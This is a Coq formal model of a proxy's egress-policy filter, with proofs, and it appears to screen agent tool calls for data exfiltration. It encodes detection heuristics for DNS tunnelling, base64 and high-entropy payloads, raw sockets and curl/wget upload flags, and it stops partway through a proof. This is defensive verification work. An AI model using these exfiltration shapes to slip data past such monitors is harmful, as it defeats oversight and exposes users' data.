(* ===== verification/EgressCommand.v ===== *)
(** * Egress policy: commands, payloads and the filter

    The second half of [crates/grith-proxy/src/filters/egress_policy.rs]: the
    shape of an outgoing payload, the destinations a command line names, DNS
    tunnelling, the decision matrix of listeners and the evaluation of a call. *)

From Stdlib Require Import Ascii String SpecFloat.
From S2P Require Import Prelude Concrete Net F64 Types Scoring SessionState Filters.
From S2P Require Import SensitivePaths SessionRules EgressPolicy.

(** The URL pattern compiled by the [regex] crate (its captures in a text, in
    order), [f64::log2], whose precision the standard library leaves open, the
    shortest decimal that reads back as a float ([{}]), and [serde_json]. *)
Class EgressDeps `{Deps} := {
  command_urls : string → list string;
  f64_log2 : f64 → f64;
  f64_display : f64 → string;
  json_bool : bool → Json;
  json_string_array : string → option (list string);
}.

(** [{x:.2}] *)
Definition f64_fmt2 (x : f64) : string :=
  let sign (s : bool) : string := if s then "-" else "" in
  match x with
  | S754_nan => "NaN"
  | S754_infinity s => sign s +:+ "inf"
  | S754_zero s => sign s +:+ "0.00"
  | S754_finite s m e =>
      let hundredths :=
        if (0 <=? e)%Z then (Zpos m * 2 ^ e * 100)%Z
        else div_half_even (Zpos m * 100) (2 ^ (- e)) in
      let rest := (hundredths mod 100)%Z in
      sign s +:+ fmt_Z (hundredths / 100) +:+ "." +:+ (if (rest <? 10)%Z then "0" else "")
        +:+ fmt_Z rest
  end.

(** ** Words and letters *)

(** [split_whitespace]: a whitespace character starts with its own lead byte, so the
    scan by bytes meets it aligned. *)
Fixpoint words_fuel (n : nat) (word s : string) : list string :=
  let flush l := if String.eqb word "" then l else word :: l in
  match n, s with
  | S n', String a s' =>
      match List.find (λ w, starts_with w s) whitespace with
      | Some w => flush (words_fuel n' "" (default s' (strip_prefix w s)))
      | None => words_fuel n' (word +:+ String a "") s'
      end
  | _, _ => flush []
  end.

Definition split_whitespace (s : string) : list string := words_fuel (String.length s) "" s.

(** [split] at each byte of a set. *)
Fixpoint split_any (p : ascii → bool) (s : string) : list string :=
  match s with
  | EmptyString => [""]
  | String a s' =>
      if p a then "" :: split_any p s'
      else match split_any p s' with
           | w :: ws => String a w :: ws
           | [] => [String a ""]
           end
  end.

Definition is_any (bytes : list ascii) (a : ascii) : bool := existsb (ascii_eqb a) bytes.

Definition in_range (lo hi : N) (a : ascii) : bool :=
  ((lo <=? N_of_ascii a) && (N_of_ascii a <=? hi))%N.
Definition is_alphabetic (a : ascii) : bool := in_range 65 90 a || in_range 97 122 a.
Definition is_alphanumeric (a : ascii) : bool := is_alphabetic a || in_range 48 57 a.

Definition all_bytes (p : ascii → bool) (s : string) : bool := forallb p (list_ascii_of_string s).

(** [trim_end_matches] with a set of bytes. *)
Fixpoint trim_end_any (p : ascii → bool) (s : string) : string :=
  match s with
  | EmptyString => EmptyString
  | String a s' =>
      match trim_end_any p s' with
      | EmptyString => if p a then EmptyString else String a EmptyString
      | t => String a t
      end
  end.

Definition str_len (s : string) : Z := Z.of_nat (String.length s).

(** ** The shape of a payload *)

Definition is_base64_byte (a : ascii) : bool := is_alphanumeric a || is_any ["+"; "/"; "="]%char a.

Fixpoint base64_runs (max_run current_run : Z) (s : string) : Z :=
  match s with
  | EmptyString => max_run
  | String b s' =>
      if is_base64_byte b then base64_runs (Z.max max_run (current_run + 1)) (current_run + 1) s'
      else base64_runs max_run 0 s'
  end.

Definition longest_base64_run (s : string) : option Z :=
  let max_run := base64_runs 0 0 s in if (0 <? max_run)%Z then Some max_run else None.

(** How often each of the 256 bytes occurs, in their order. *)
Definition byte_counts (s : string) : list Z :=
  map (λ n, Z.of_nat (length (List.filter (λ a, (N_of_ascii a =? N.of_nat n)%N)
                                (list_ascii_of_string s)))) (seq 0 256).

Section Shape.
Context `{D : Deps} `{U : Unicode} `{!EgressDeps}.

Definition shannon_entropy (s : string) : f64 :=
  if String.eqb s "" then f64_zero
  else
    let len := f64_of_Z (str_len s) in
    f64_sum (map (λ c, let p := f64_div (f64_of_Z c) len in f64_mul (SFopp p) (f64_log2 p))
               (List.filter (Z.ltb 0) (byte_counts s))).

Definition length_signal (f : EgressPolicyFilter) (text source : string) : option FilterResult :=
  let len_limit :=
    if contains "url" source then ep_suspicious_url_length f else ep_suspicious_arg_length f in
  if (len_limit <? str_len text)%Z then
    Some (ep_matched "suspicious-length" (review_score f)
            ("Suspicious " +:+ source +:+ " length (" +:+ fmt_Z (str_len text)
              +:+ " chars, threshold " +:+ fmt_Z len_limit +:+ ")"))
  else None.

Definition base64_signal (f : EgressPolicyFilter) (text source : string) : option FilterResult :=
  run_len ← longest_base64_run text;
  if (ep_base64_min_chunk_len f <=? run_len)%Z then
    Some (ep_matched "base64-chunking" (review_score f)
            ("Possible base64-encoded payload in " +:+ source +:+ " (" +:+ fmt_Z run_len
              +:+ " char run, threshold " +:+ fmt_Z (ep_base64_min_chunk_len f) +:+ ")"))
  else None.

(** The first long segment above the threshold. *)
Definition entropy_signal (f : EgressPolicyFilter) (text source : string) : option FilterResult :=
  segment ← List.find (λ segment, negb (str_len segment <? 16)%Z
                                  && f64_ge (shannon_entropy segment) (ep_entropy_threshold f))
              (split_any (is_any ["/"; "?"; "&"; "="; " "]%char) text);
  Some (ep_matched "high-entropy-segment" (review_score f)
          ("High-entropy segment in " +:+ source +:+ " (entropy "
            +:+ f64_fmt2 (shannon_entropy segment) +:+ " bits/char, threshold "
            +:+ f64_display (ep_entropy_threshold f) +:+ ")")).

Definition evaluate_protocol_signals (f : EgressPolicyFilter) (text source : string) :
    option FilterResult :=
  let best := select_higher_risk None (length_signal f text source) in
  let best := select_higher_risk best (base64_signal f text source) in
  select_higher_risk best (entropy_signal f text source).

(** ** DNS tunnelling *)

Definition DNS_TUNNEL_LABEL_MIN_LEN : Z := 32.
Definition DNS_TUNNEL_SUBDOMAIN_MIN_LEN : Z := 50.
Definition DNS_TUNNEL_QTYPE_SUBDOMAIN_MIN_LEN : Z := 24.
Definition DNS_TUNNEL_ENTROPY_THRESHOLD : f64 := f64_of_Z 4.

Record DnsTunnelingSignal := {
  dts_reason : string;
  dts_high_risk_qtype : bool;
}.

Definition is_high_risk_dns_qtype (query_type : string) : bool :=
  str_mem (to_ascii_uppercase (trim query_type)) ["TXT"; "NULL"; "CNAME"; "ANY"].

Definition encoded (min_len : Z) (s : string) : bool :=
  (min_len <=? str_len s)%Z && f64_ge (shannon_entropy s) DNS_TUNNEL_ENTROPY_THRESHOLD.

Definition dns_tunneling_signal (domain query_type : string) : option DnsTunnelingSignal :=
  let domain := to_ascii_lowercase (trim_end_char "."%char (trim domain)) in
  let labels := List.filter (λ l, negb (String.eqb l "")) (split_on "."%char domain) in
  let high_risk_qtype := is_high_risk_dns_qtype query_type in
  let signal reason := Some {| dts_reason := reason; dts_high_risk_qtype := high_risk_qtype |} in
  if decide (labels = []) then None
  else
    match List.find (encoded DNS_TUNNEL_LABEL_MIN_LEN) labels with
    | Some label =>
        signal ("long high-entropy label (" +:+ fmt_Z (str_len label) +:+ " chars, entropy "
                +:+ f64_fmt2 (shannon_entropy label) +:+ ")")
    | None =>
        let subdomain := join "" (take (length labels - 2) labels) in
        if String.eqb subdomain "" then None
        else if encoded DNS_TUNNEL_SUBDOMAIN_MIN_LEN subdomain then
          signal ("high-entropy multi-label subdomain (" +:+ fmt_Z (str_len subdomain)
                  +:+ " chars, entropy " +:+ f64_fmt2 (shannon_entropy subdomain) +:+ ")")
        else if high_risk_qtype && encoded DNS_TUNNEL_QTYPE_SUBDOMAIN_MIN_LEN subdomain then
          signal (to_ascii_uppercase (trim query_type) +:+ " query with encoded subdomain ("
                  +:+ fmt_Z (str_len subdomain) +:+ " chars, entropy "
                  +:+ f64_fmt2 (shannon_entropy subdomain) +:+ ")")
        else None
    end.
End Shape.

(** ** Command lines *)

Definition token_basename (token : string) : string :=
  let trimmed := trim_end_any (is_any [";"; ","; "|"; "&"]%char) token in
  match rsplit_once "/"%char trimmed with
  | Some (_, basename) => if String.eqb basename "" then trimmed else basename
  | None => trimmed
  end.

Definition BROWSER_BINARIES : list string :=
  ["chrome"; "chrome.exe"; "google-chrome"; "google-chrome-stable"; "google-chrome-beta";
   "google-chrome-unstable"; "chromium"; "chromium-browser"; "msedge"; "msedge.exe";
   "microsoft-edge"; "microsoft-edge-stable"; "brave"; "brave-browser"; "opera"; "vivaldi";
   "vivaldi-stable"].

Definition is_browser_subprocess_spawn (command : string) (args : list string) : bool :=
  let base := to_ascii_lowercase (token_basename command) in
  contains "crashpad_handler" base
  || (str_mem base BROWSER_BINARIES && existsb (starts_with "--type=") args).

Definition VALUE_TAKING_FETCH_FLAGS : list string :=
  ["-o"; "--output"; "-O"; "--output-document"; "-T"; "--upload-file"; "-d"; "--data"; "--data-binary";
   "--data-raw"; "--data-urlencode"; "-F"; "--form"; "-H"; "--header"; "-A"; "--user-agent"; "-e";
   "--referer"; "-b"; "--cookie"; "-c"; "--cookie-jar"; "-u"; "--user"; "-x"; "--proxy"; "-K";
   "--config"; "--cacert"; "--cert"; "--key"; "--capath"; "-w"; "--write-out"; "-U"; "--post-file";
   "--post-data"; "-P"; "--directory-prefix"; "-a"; "--append-output"; "--ciphers";
   "--connect-timeout"; "--retry"].

Definition looks_like_hostname (s : string) : bool :=
  if String.eqb s "" || (253 <? str_len s)%Z then false
  else
    let labels := split_on "."%char s in
    let last_label := default "" (last labels) in
    forallb (λ label, negb (String.eqb label "")
                      && all_bytes (λ b, is_alphanumeric b || ascii_eqb b "-"%char) label) labels
    && (2 <=? length labels)%nat && (2 <=? str_len last_label)%Z && all_bytes is_alphabetic last_label.

Definition first_piece (c : ascii) (s : string) : string := default s (head (split_on c s)).

(** The host a bare token would name. *)
Definition bare_host (t : string) : string :=
  let host := first_piece "?"%char (first_piece "/"%char t) in
  first_piece ":"%char (after_last "@"%char host).

(** Whether a token in a value position or with these shapes is passed over. *)
Definition bare_token_skipped (prev t : string) : bool :=
  str_mem prev VALUE_TAKING_FETCH_FLAGS
  || starts_with "-" t || starts_with "@" t
  || starts_with "/" t || starts_with "./" t || starts_with "../" t
  || contains "://" t.

Definition untrusted_bare_token (is_trusted : string → bool) (t : string) : bool :=
  let host_no_port := bare_host t in
  match parse_ip host_no_port with
  | Some _ => negb (is_private_or_local_host host_no_port)
  | None => looks_like_hostname host_no_port && negb (is_trusted host_no_port)
  end.

Fixpoint bare_destination_loop (is_trusted : string → bool) (prev : string) (tokens : list string) :
    bool :=
  match tokens with
  | [] => false
  | t :: tokens' =>
      (negb (bare_token_skipped prev t) && untrusted_bare_token is_trusted t)
      || bare_destination_loop is_trusted t tokens'
  end.

(** The first token is the program. *)
Definition command_has_untrusted_bare_destination (command : string) (is_trusted : string → bool) :
    bool :=
  match split_whitespace command with
  | [] => false
  | program :: tokens => bare_destination_loop is_trusted program tokens
  end.

Section Commands.
Context `{D : Deps} `{U : Unicode} `{!EgressDeps}.
Variable f : EgressPolicyFilter.

Definition extract_destinations_from_command (command : string) : list Destination :=
  List.filter (λ d, match dst_scheme d with
                    | Some scheme => negb (is_object_storage_uri_scheme scheme)
                    | None => true
                    end)
    (omap parse_url_destination (command_urls command)).

Definition command_targets_only_trusted_destinations (command : string)
    (prof_trusted : option (gset string)) : bool :=
  let dests := extract_destinations_from_command command in
  let is_trusted host := is_trusted_or_allowed_local f (to_lowercase host) prof_trusted in
  if decide (dests = []) then false
  else forallb (λ d, is_trusted (dst_host d)) dests
       && negb (command_has_untrusted_bare_destination command is_trusted).

Definition names_token (basenames : list string) (token : string) : bool :=
  existsb (λ b, eq_ignore_ascii_case b token) basenames.

Definition evaluate_command_tokens (command : string) (prof_trusted : option (gset string)) :
    option FilterResult :=
  let basenames := map token_basename (split_whitespace command) in
  match List.find (names_token basenames) (ep_blocked_command_tokens f) with
  | Some token =>
      Some (ep_matched "blocked-egress-command-token" (blocked_score f)
              ("Blocked outbound command token: " +:+ token))
  | None =>
      token ← List.find (names_token basenames) (ep_review_command_tokens f);
      if command_targets_only_trusted_destinations command prof_trusted then None
      else Some (ep_matched "review-egress-command-token" (review_score f)
                   ("Review outbound command token: " +:+ token))
  end.

End Commands.

(** ** Evaluation of a call *)

Section Evaluation.
Context `{D : Deps} `{U : Unicode} `{!EgressDeps}.
Variable f : EgressPolicyFilter.

(** An arm returns early with a result, or goes on with the best signal so far and
    whether a payload had the shape of an exfiltration. *)
Inductive arm_outcome :=
  | Return (r : FilterResult)
  | Continue (best : option FilterResult) (exfil_shape : bool).

(** The destinations a text names: the best signal, whether there is one, and
    whether one is not trusted. *)
Definition scan_destination (prof_trusted : option (gset string))
    (acc : option FilterResult * bool * bool) (dest : Destination) : option FilterResult * bool * bool :=
  let '(best, _, has_untrusted) := acc in
  let best := select_higher_risk best (evaluate_destination f dest "command" prof_trusted) in
  let best := select_higher_risk best (evaluate_unusual_port f dest "command") in
  (best, true, has_untrusted || negb (is_trusted_or_allowed_local f (dst_host dest) prof_trusted)).

Definition scan_destinations (text : string) (prof_trusted : option (gset string))
    (best : option FilterResult) : option FilterResult * bool * bool :=
  fold_left (scan_destination prof_trusted) (extract_destinations_from_command text)
    (best, false, false).

(** The destinations of [text], the bare ones of the command [full], and the shape of
    the text. *)
Definition scan_command_text (full text : string) (prof_trusted : option (gset string))
    (best : option FilterResult) : arm_outcome :=
  let is_trusted host := is_trusted_or_allowed_local f host prof_trusted in
  let '(best, has_dest, has_untrusted_dest) := scan_destinations text prof_trusted best in
  let has_untrusted_dest :=
    has_untrusted_dest || command_has_untrusted_bare_destination full is_trusted in
  let has_dest := has_dest || has_untrusted_dest in
  let shape := evaluate_protocol_signals f text "command_args" in
  Continue (if has_untrusted_dest then select_higher_risk best shape else best)
    (has_dest && bool_decide (is_Some shape)).

Definition evaluate_http (url : string) (prof_trusted : option (gset string)) : arm_outcome :=
  let dest := parse_url_destination url in
  let untrusted :=
    match dest with
    | Some d => negb (is_trusted_or_allowed_local f (dst_host d) prof_trusted)
    | None => true
    end in
  let best :=
    match dest with
    | Some dest =>
        let best := select_higher_risk None (evaluate_destination f dest "http_request" prof_trusted) in
        select_higher_risk best (evaluate_unusual_port f dest "http_request")
    | None => None
    end in
  let shape := evaluate_protocol_signals f url "url" in
  Continue (if untrusted then select_higher_risk best shape else best)
    (bool_decide (is_Some dest) && bool_decide (is_Some shape)).

Definition RAW_SOCKET_SCORE : f64 := f64_of_Z 7.

Definition evaluate_net_connect (ctx : ToolCallContext) (address : string) (port : Z)
    (prof_trusted : option (gset string)) : arm_outcome :=
  if starts_with "raw:" address then
    Return (ep_matched "raw-socket" RAW_SOCKET_SCORE
              ("Raw socket (" +:+ address +:+ "): can exfiltrate data bypassing IP stack"))
  else if bool_decide (unix_socket_class ctx = Some Control) then
    Return (matched "egress-policy" "local-ipc-socket" f64_zero SevNotice
              ("Local IPC socket (desktop control class): " +:+ address))
  else
    let destination_result :=
      match parse_dns_candidate_array json_string_array address with
      | Some candidates => evaluate_worst_case_candidate f candidates port prof_trusted
      | None => evaluate_destination f (parse_net_destination address port) "net_connect" prof_trusted
      end in
    let best := select_higher_risk None destination_result in
    Continue (select_higher_risk best
                (evaluate_unusual_port f (parse_net_destination address port) "net_connect")) false.

Definition LISTEN_REVIEW_SCORE : f64 := f64_of_Z 5.
Definition LISTEN_CLIENT_SCORE : f64 := f64_dec 5 1.

(** The rule of a bind that is neither loopback nor a client socket; [None] when the
    declared clamp takes care of it. *)
Definition listen_review_rule (address : string) (port : Z) (policy_match : option ListenerPolicyMatch) :
    option (string * string) :=
  let at_ := " (address: " +:+ address +:+ ":" +:+ fmt_Z port +:+ ")" in
  if is_wildcard_bind_address address then
    match policy_match with
    | Some m =>
        if lpm_allow_clamp m then None
        else Some ("wildcard-bind-declared-no-clamp",
                   "Wildcard bind on declared port " +:+ fmt_Z port
                     +:+ " (allow_clamp = false) requires approval" +:+ at_)
    | None =>
        Some ("wildcard-bind-undeclared",
              "Wildcard bind not declared in profile's local_listener_policy requires approval" +:+ at_)
    end
  else
    Some ("specific-iface-bind",
          "Bind to specific non-loopback interface requires approval" +:+ at_).

Definition evaluate_net_listen (ctx : ToolCallContext) (address : string) (port : Z)
    (prof_trusted : option (gset string)) : arm_outcome :=
  let dest := parse_net_destination address port in
  let finish best :=
    let best := select_higher_risk best (evaluate_destination f dest "net_listen" prof_trusted) in
    Continue (select_higher_risk best (evaluate_unusual_port f dest "net_listen")) false in
  if starts_with "raw:" address then
    Return (ep_matched "raw-socket" RAW_SOCKET_SCORE
              ("Raw socket bind (" +:+ address +:+ "): can exfiltrate data bypassing IP stack"))
  else if bool_decide (unix_socket_class ctx = Some Control) then
    Return (matched "egress-policy" "local-ipc-listen" f64_zero SevNotice
              ("Local IPC listener (desktop control class): " +:+ address))
  else if is_loopback_bind_address address then finish None
  else
    let policy_match := ctx_listener_policy_match ctx in
    let declared := bool_decide (is_Some policy_match) in
    let is_ip_bind := bool_decide (is_Some (parse_ip address)) in
    if (port =? 0)%Z && negb declared && is_ip_bind then
      Return (ep_matched "ephemeral-port-bind" LISTEN_CLIENT_SCORE
                ("Kernel-assigned ephemeral port bind (client-socket idiom): " +:+ address +:+ ":0"))
    else if negb declared && is_ip_bind && bool_decide (ctx_bind_protocol ctx = Some Udp)
            && negb (is_udp_service_port port) then
      Return (ep_matched "udp-client-port-bind" LISTEN_CLIENT_SCORE
                ("UDP source-port bind on a non-service port (client-socket idiom): " +:+ address
                  +:+ ":" +:+ fmt_Z port))
    else
      match listen_review_rule address port policy_match with
      | None => Return (no_match "egress-policy")
      | Some (rule_id, msg) => finish (Some (ep_matched rule_id LISTEN_REVIEW_SCORE msg))
      end.

Definition evaluate_dns (domain query_type : string) (prof_trusted : option (gset string)) :
    arm_outcome :=
  let dest := parse_net_destination domain 53 in
  let best := select_higher_risk None (evaluate_destination f dest "dns_query" prof_trusted) in
  let '(best, exfil_shape) :=
    match dns_tunneling_signal domain query_type with
    | Some sig =>
        let score :=
          if dts_high_risk_qtype sig then f64_add (review_score f) (f64_of_Z 2) else review_score f in
        (select_higher_risk best
           (Some (ep_matched "dns-tunneling" score
                    ("Possible DNS tunnelling in query: " +:+ dts_reason sig))), true)
    | None => (best, false)
    end in
  let shape := evaluate_protocol_signals f domain "dns_query" in
  Continue (select_higher_risk best shape) (exfil_shape || bool_decide (is_Some shape)).

Definition evaluate_spawn (command : string) (args : list string) (prof_trusted : option (gset string)) :
    arm_outcome :=
  let full := if decide (args = []) then command else command +:+ " " +:+ join " " args in
  let best :=
    if is_browser_subprocess_spawn command args then None
    else select_higher_risk None (evaluate_command_tokens f full prof_trusted) in
  let arg_text := join " " args in
  if String.eqb arg_text "" then Continue best false
  else scan_command_text full arg_text prof_trusted best.

Definition evaluate_call (ctx : ToolCallContext) : arm_outcome :=
  let prof_trusted := name ← ctx_profile_name ctx; ep_profile_trusted f !! to_lowercase name in
  match ctx_call_type ctx with
  | HttpRequest _ url => evaluate_http url prof_trusted
  | NetConnect address port => evaluate_net_connect ctx address port prof_trusted
  | NetListen address port => evaluate_net_listen ctx address port prof_trusted
  | DnsQuery domain query_type => evaluate_dns domain query_type prof_trusted
  | ShellExec _ _ =>
      match full_command ctx with
      | Some full =>
          scan_command_text full full prof_trusted
            (select_higher_risk None (evaluate_command_tokens f full prof_trusted))
      | None => Continue None false
      end
  | ProcessSpawn command args => evaluate_spawn command args prof_trusted
  | _ => Continue None false
  end.

Definition set_metadata (key : string) (v : Json) (r : FilterResult) : FilterResult := {|
  fr_filter_name := fr_filter_name r; fr_matched := fr_matched r; fr_score := fr_score r;
  fr_rule_id := fr_rule_id r; fr_severity := fr_severity r; fr_message := fr_message r;
  fr_metadata := <[key := v]> (fr_metadata r) |}.

Definition egress_policy_evaluate (ctx : ToolCallContext) : FilterResult :=
  match evaluate_call ctx with
  | Return r => r
  | Continue best exfil_shape =>
      let result := default (no_match "egress-policy") best in
      if exfil_shape then set_metadata "exfil_shape" (json_bool true) result else result
  end.

(** The filter as the engine sees it: it keeps no state. *)
Definition egress_policy_filter {FS} : SecurityFilter FS := {|
  sf_name := "egress-policy";
  sf_phase := Pattern;
  sf_is_ready _ := true;
  sf_evaluate ctx w := (Some (egress_policy_evaluate ctx), w);
  sf_evict_session_state _ w := (0, w);
  sf_observe_outcome _ _ _ w := w;
|}.

End Evaluation.

(** ** Lemmas *)

Section Lemmas.
Context `{D : Deps} `{U : Unicode} `{!EgressDeps}.

Lemma select_higher_risk_cases a b :
  select_higher_risk a b = a ∨ select_higher_risk a b = b.
Proof. destruct a as [a|], b as [b|]; cbn; auto. destruct (f64_gt _ _); auto. Qed.

(** A property that both signals have is kept by the choice between them. *)
Definition signal_ok (P : FilterResult → Prop) (r : option FilterResult) : Prop :=
  match r with Some r => P r | None => True end.

Lemma select_ok P a b : signal_ok P a → signal_ok P b → signal_ok P (select_higher_risk a b).
Proof. by destruct (select_higher_risk_cases a b) as [-> | ->]. Qed.

Definition comparable_b (x : f64) : bool := f64_valid x && negb (f64_is_nan x).

Lemma comparable_b_spec x : comparable_b x = true ↔ comparable x.
Proof. unfold comparable_b, comparable. by rewrite andb_true_iff, negb_true_iff. Qed.

(** Nothing is lost by going on: the best signal so far is at least [lo]. *)
Definition at_least (lo x : f64) : bool := comparable_b x && f64_le lo x.

Lemma select_at_least lo a b :
  comparable lo → signal_ok (λ r, comparable_b (fr_score r) = true) b →
  (∃ r, a = Some r ∧ at_least lo (fr_score r) = true) →
  ∃ r, select_higher_risk a b = Some r ∧ at_least lo (fr_score r) = true.
Proof.
  intros Hlo Hb (r & -> & Hr). destruct b as [b|]; [|by exists r]. cbn in Hb |- *.
  destruct (f64_gt (fr_score b) (fr_score r)) eqn:E; [|by exists r]. exists b. split; [done|].
  unfold at_least in *. apply andb_true_iff in Hr as [Hc Hr]. rewrite Hb; cbn [andb].
  apply comparable_b_spec in Hc, Hb. apply (f64_le_trans _ (fr_score r)); [by destruct Hlo|by destruct Hc|by destruct Hb|done|].
  by apply f64_gt_le.
Qed.

(** The scores of the filter: at least the trusted credit, and at most the raw
    socket's, or the blocked score of the enforcing mode. *)
Definition score_ceiling (f : EgressPolicyFilter) : f64 :=
  match ep_mode f with Enforce => f64_of_Z 9 | _ => f64_of_Z 7 end.

Definition in_bounds (f : EgressPolicyFilter) (x : f64) : bool :=
  comparable_b x && f64_le (f64_of_Z (-1)) x && f64_le x (score_ceiling f).

(** Results of this filter, counted or without a score. *)
Definition well_scored (f : EgressPolicyFilter) (r : FilterResult) : Prop :=
  fr_filter_name r = "egress-policy" ∧ (fr_matched r = true ∨ fr_score r = f64_zero)
  ∧ in_bounds f (fr_score r) = true.

Lemma fixed_scores_in_bounds f :
  Forall (λ x, in_bounds f x = true)
    [blocked_score f; review_score f; UNKNOWN_DNS_SOFT_SCORE; f64_of_Z (-1); f64_zero;
     RAW_SOCKET_SCORE; LISTEN_REVIEW_SCORE; LISTEN_CLIENT_SCORE;
     f64_add (review_score f) (f64_of_Z 2)].
Proof.
  unfold blocked_score, review_score, in_bounds, score_ceiling.
  destruct (ep_mode f); repeat (apply Forall_cons_2; [vm_compute; reflexivity|]); apply Forall_nil_2.
Qed.

Lemma evaluate_destination_ok f dest source profile :
  signal_ok (well_scored f) (evaluate_destination f dest source profile).
Proof.
  destruct (evaluate_destination f dest source profile) as [r|] eqn:E; [|done].
  assert (Hr : fr_filter_name r = "egress-policy" ∧ fr_matched r = true).
  { unfold evaluate_destination, unknown_destination in E.
    repeat case_match; try done; by injection E as <-. }
  apply evaluate_destination_score in E. cbn. split; [by destruct Hr|]. split; [left; by destruct Hr|].
  pose proof (fixed_scores_in_bounds f) as Hf. unfold destination_scores in E.
  rewrite Forall_forall in Hf. apply Hf. set_solver.
Qed.

(** A signal at the blocked or at the review score. *)
Lemma policy_signal_ok f rule msg x :
  x ∈ [blocked_score f; review_score f] → signal_ok (well_scored f) (Some (ep_matched rule x msg)).
Proof.
  intros Hx. split; [done|]. split; [by left|].
  pose proof (fixed_scores_in_bounds f) as Hf. rewrite Forall_forall in Hf. apply Hf. cbn. set_solver.
Qed.

Ltac policy_signal :=
  first [done | apply policy_signal_ok; rewrite !elem_of_cons; by auto].

Lemma evaluate_unusual_port_ok f dest source :
  signal_ok (well_scored f) (evaluate_unusual_port f dest source).
Proof.
  unfold evaluate_unusual_port. destruct (effective_port dest); cbn [mbind option_bind]; [|done].
  case_decide; policy_signal.
Qed.

Lemma evaluate_protocol_signals_ok f text source :
  signal_ok (well_scored f) (evaluate_protocol_signals f text source).
Proof.
  unfold evaluate_protocol_signals. repeat apply select_ok; [done|..].
  - unfold length_signal. case_match; policy_signal.
  - unfold base64_signal. destruct (longest_base64_run text); cbn [mbind option_bind]; [|done].
    case_match; policy_signal.
  - unfold entropy_signal. destruct (List.find _ _); cbn [mbind option_bind]; policy_signal.
Qed.

Lemma evaluate_command_tokens_ok f command profile :
  signal_ok (well_scored f) (evaluate_command_tokens f command profile).
Proof.
  unfold evaluate_command_tokens. destruct (List.find _ _); [policy_signal|].
  destruct (List.find _ _); cbn [mbind option_bind]; [|done]. case_match; policy_signal.
Qed.

Lemma worst_case_ok f candidates port profile :
  signal_ok (well_scored f) (evaluate_worst_case_candidate f candidates port profile).
Proof.
  destruct (evaluate_worst_case_candidate f candidates port profile) as [r|] eqn:E; [|done].
  destruct candidates as [|c0 candidates]; [done|].
  destruct (worst_candidate_spec f port profile candidates [c0]
    (evaluate_destination f (parse_net_destination c0 port) "net_connect" profile))
    as (w & Hw & (c & _ & Hc) & _).
  { split; [eexists; split; [apply list_elem_of_here|done]|].
    intros c' ->%list_elem_of_singleton. apply comparable_le_refl, score_or_zero_comparable. }
  unfold evaluate_worst_case_candidate in E. cbn [worst_candidate] in E.
  rewrite Hw in E. pose proof (evaluate_destination_ok f (parse_net_destination c port) "net_connect"
    profile) as Hok. rewrite <- Hc in Hok. destruct w as [w|]; [|done]. cbn in E, Hok |- *.
  by destruct (f64_gt _ _) in E; injection E as <-.
Qed.

Definition outcome_ok (P : FilterResult → Prop) (o : arm_outcome) : Prop :=
  match o with Return r => P r | Continue best _ => signal_ok P best end.

Lemma scan_destinations_ok f text profile best :
  signal_ok (well_scored f) best → signal_ok (well_scored f) (scan_destinations f text profile best).1.1.
Proof.
  intros Hb. unfold scan_destinations.
  set (acc := (best, false, false)). assert (Hacc : signal_ok (well_scored f) acc.1.1) by done.
  clearbody acc. revert acc Hacc.
  induction (extract_destinations_from_command text) as [|d ds IH]; intros acc Hacc; [done|].
  cbn [fold_left]. apply IH. destruct acc as [[b has] untrusted]. cbn [scan_destination fst].
  apply select_ok; [|apply evaluate_unusual_port_ok].
  apply select_ok; [done|apply evaluate_destination_ok].
Qed.

Lemma scan_command_text_ok f full text profile best :
  signal_ok (well_scored f) best → outcome_ok (well_scored f) (scan_command_text f full text profile best).
Proof.
  intros Hb. unfold scan_command_text. pose proof (scan_destinations_ok f text profile best Hb) as Hs.
  destruct (scan_destinations f text profile best) as [[best' has] untrusted]. cbn [fst] in Hs. cbn.
  destruct (_ || _); [|done]. apply select_ok; [done|apply evaluate_protocol_signals_ok].
Qed.

(** The scores that do not depend on a judgement. *)
Lemma fixed_score_in_bounds f x :
  x ∈ [f64_zero; RAW_SOCKET_SCORE; LISTEN_REVIEW_SCORE; LISTEN_CLIENT_SCORE;
       f64_add (review_score f) (f64_of_Z 2); review_score f] → in_bounds f x = true.
Proof.
  intros Hx. pose proof (fixed_scores_in_bounds f) as Hf. rewrite Forall_forall in Hf. apply Hf.
  set_solver.
Qed.

Lemma fixed_score_ok f rule x sev msg :
  x ∈ [f64_zero; RAW_SOCKET_SCORE; LISTEN_REVIEW_SCORE; LISTEN_CLIENT_SCORE;
       f64_add (review_score f) (f64_of_Z 2); review_score f] →
  well_scored f (matched "egress-policy" rule x sev msg).
Proof. intros Hx. split; [done|]. split; [by left|]. by apply fixed_score_in_bounds. Qed.

Lemma no_match_ok f : well_scored f (no_match "egress-policy").
Proof. split; [done|]. split; [by right|]. apply fixed_score_in_bounds. cbn. set_solver. Qed.

Lemma evaluate_dns_ok f domain query_type profile :
  outcome_ok (well_scored f) (evaluate_dns f domain query_type profile).
Proof.
  unfold evaluate_dns. pose proof (evaluate_destination_ok f (parse_net_destination domain 53)
    "dns_query" profile) as Hd.
  destruct (dns_tunneling_signal domain query_type) as [sig|]; cbn [outcome_ok];
    (apply select_ok; [|apply evaluate_protocol_signals_ok]); [apply select_ok|]; [by apply select_ok| |by apply select_ok].
  cbn. apply fixed_score_ok. destruct (dts_high_risk_qtype sig); rewrite !elem_of_cons; auto 10.
Qed.

Lemma evaluate_net_connect_ok f ctx address port profile :
  outcome_ok (well_scored f) (evaluate_net_connect f ctx address port profile).
Proof.
  unfold evaluate_net_connect. destruct (starts_with "raw:" address).
  { apply fixed_score_ok. rewrite !elem_of_cons; auto. }
  case_bool_decide; [apply fixed_score_ok; rewrite !elem_of_cons; by auto|].
  cbn [outcome_ok]. apply select_ok; [apply select_ok; [done|]|apply evaluate_unusual_port_ok].
  destruct (parse_dns_candidate_array _ _); [apply worst_case_ok|apply evaluate_destination_ok].
Qed.

Lemma evaluate_net_listen_ok f ctx address port profile :
  outcome_ok (well_scored f) (evaluate_net_listen f ctx address port profile).
Proof.
  unfold evaluate_net_listen. destruct (starts_with "raw:" address).
  { apply fixed_score_ok. rewrite !elem_of_cons; auto. }
  case_bool_decide; [apply fixed_score_ok; rewrite !elem_of_cons; by auto|].
  assert (Hfin : ∀ best, signal_ok (well_scored f) best → signal_ok (well_scored f)
    (select_higher_risk (select_higher_risk best
       (evaluate_destination f (parse_net_destination address port) "net_listen" profile))
       (evaluate_unusual_port f (parse_net_destination address port) "net_listen"))).
  { intros best Hb. apply select_ok; [apply select_ok; [done|]|apply evaluate_unusual_port_ok].
    apply evaluate_destination_ok. }
